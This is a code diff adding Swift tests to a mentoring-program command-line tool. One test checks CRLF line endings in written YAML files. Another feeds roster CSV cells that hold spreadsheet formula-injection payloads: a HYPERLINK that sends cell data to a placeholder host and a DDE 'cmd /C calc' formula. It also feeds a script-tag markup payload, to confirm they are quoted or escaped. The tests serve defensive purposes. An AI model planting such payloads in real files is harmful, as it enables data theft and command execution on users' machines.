@@ -88,4 +88,58 @@ struct MatchCommandTests {
         #expect(output.status != 0)
         #expect(output.stderr.contains("has no groups yet; list them under 'groups:', or propose them from a roster with 'mentor match"))
     }
+
+    @Test("--write keeps a CRLF program file's line endings, in a filled list and in 'people: []'")
+    func writeCRLF() throws {
+        let root = Mentor.packageRoot.appending(path: "Plans/examples/matching")
+        let original = try String(contentsOf: root.appending(path: "program.yaml"), encoding: .utf8)
+            .replacingOccurrences(of: "\n", with: "\r\n")
+        let empty = "program: P\r\ntype: one-to-one\r\nstarts: 2027-01-11\r\npeople: []\r\ngroups: []\r\n"
+        let folder = try Mentor.folder([
+            "program.yaml": original,
+            "empty.yaml": empty,
+            "roster.csv": try String(contentsOf: root.appending(path: "roster.csv"), encoding: .utf8),
+            "small.csv": "id,name,grade,role\r\nm1,Mia,14,mentor\r\ne1,Eve,12,mentee\r\n",
+        ])
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let first = try Mentor.run(["match", "program.yaml", "--roster", "roster.csv", "--write"], in: folder)
+        #expect(first.status == 0, "\(first.stderr)")
+        #expect(first.stderr.contains("added 6 groups to program.yaml"))
+        #expect(!first.stderr.contains("Fatal error"))
+        let updated = try String(contentsOf: folder.appending(path: "program.yaml"), encoding: .utf8)
+        #expect(updated.hasPrefix(original.components(separatedBy: "people:")[0]), "comments and settings are kept")
+        #expect(updated.contains("  - { id: d11-e20, mentor: d11, mentees: [e20] }\r\n"))
+        #expect(updated.replacingOccurrences(of: "\r\n", with: "").contains("\n") == false, "every line ends in CRLF")
+        let agenda = try Mentor.run(["agenda", "program.yaml", "--group", "d11-e20", "--meeting", "2"], in: folder)
+        #expect(agenda.status == 0, "\(agenda.stderr)")
+
+        let second = try Mentor.run(["match", "empty.yaml", "--roster", "small.csv", "--write"], in: folder)
+        #expect(second.status == 0, "\(second.stderr)")
+        #expect(try String(contentsOf: folder.appending(path: "empty.yaml"), encoding: .utf8) == "program: P\r\ntype: one-to-one\r\n"
+            + "starts: 2027-01-11\r\npeople:\r\n  - { id: m1, name: Mia, grade: 14 }\r\n  - { id: e1, name: Eve, grade: 12 }\r\n"
+            + "groups:\r\n  - { id: m1-e1, mentor: m1, mentees: [e1] }\r\n")
+    }
+
+    @Test("roster cells a spreadsheet would run as formulas are quoted in the Markdown tables; markup is escaped")
+    func formulaCells() throws {
+        let folder = try Mentor.folder([
+            "program.yaml": "program: P\ntype: one-to-one\nstarts: 2027-01-11\npeople: []\ngroups: []\n",
+            "roster.csv": "id,name,grade,role\nm1,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",14,mentor\n"
+                + "e1,@SUM(1+1),12,mentee\n+e2,+cmd|' /C calc'!A0,13,mentee\ne3,-2+3,20,mentee\ne4,<script>alert(1)</script>,,mentee\n",
+        ])
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let output = try Mentor.run(["match", "program.yaml", "--roster", "roster.csv"], in: folder)
+        #expect(output.status == 0, "\(output.stderr)")
+        let rows = output.stdout.split(separator: "\n").filter { $0.hasPrefix("| ") }
+        #expect(rows.contains { $0.hasPrefix("| m1-e1 | '=HYPERLINK(\"http://x.example/?\"\\&A1) (m1) | '@SUM(1+1) (e1) | 4 |") }, "\(rows)")
+        #expect(rows.contains { $0.hasPrefix("| '+cmd\\|' /C calc'!A0 (+e2) | mentee |") }, "\(rows)")
+        #expect(rows.contains { $0.hasPrefix("| '-2+3 (e3) | mentee |") }, "\(rows)")
+        #expect(rows.contains { $0.hasPrefix("| \\<script\\>alert(1)\\</script\\> (e4) | mentee |") }, "\(rows)")
+        for row in rows where !row.hasPrefix("| ---") {
+            let cells = row.dropFirst(2).dropLast(2).components(separatedBy: " | ")
+            for cell in cells {
+                #expect(!["=", "+", "-", "@"].contains(cell.first.map(String.init) ?? ""), "a cell a spreadsheet would run: \(cell)")
+            }
+        }
+    }
 }
